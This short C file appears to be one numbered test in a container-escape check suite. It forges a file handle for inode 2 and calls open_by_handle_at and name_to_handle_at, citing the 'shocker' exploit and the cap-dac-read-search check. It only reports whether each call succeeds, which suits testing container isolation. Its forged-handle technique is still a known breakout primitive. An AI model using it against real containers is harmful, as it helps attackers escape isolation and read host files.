/* B24: a file handle made up for inode 2; source: CDK cap-dac-read-search, the shocker exploit */
#include "escape.h"

struct handle { unsigned bytes; int type; unsigned char f[128]; };

int main(void)
{
	struct handle root = { 8, 1, { 2 } }, room = { 128 };
	int mount_id, usr = open("/usr", O_RDONLY);
	TRYAS("open_by_handle_at of inode 2", syscall(SYS_open_by_handle_at, usr, &root, O_RDONLY));
	TRYAS("open_by_handle_at from the working directory", syscall(SYS_open_by_handle_at, AT_FDCWD, &root, O_RDONLY));
	TRYAS("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &room, &mount_id, 0));
	return 0;
}
